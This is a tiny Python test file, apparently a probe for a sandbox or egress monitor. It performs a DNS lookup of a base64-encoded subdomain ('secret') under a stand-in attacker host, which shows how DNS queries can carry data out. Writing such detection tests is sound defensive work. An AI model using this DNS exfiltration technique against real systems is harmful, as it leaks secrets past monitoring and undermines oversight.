# what: asks for a name, which could carry data out
# expect: network
import socket

print("BREACH", socket.getaddrinfo("c2VjcmV0.attacker.example.com", 443))
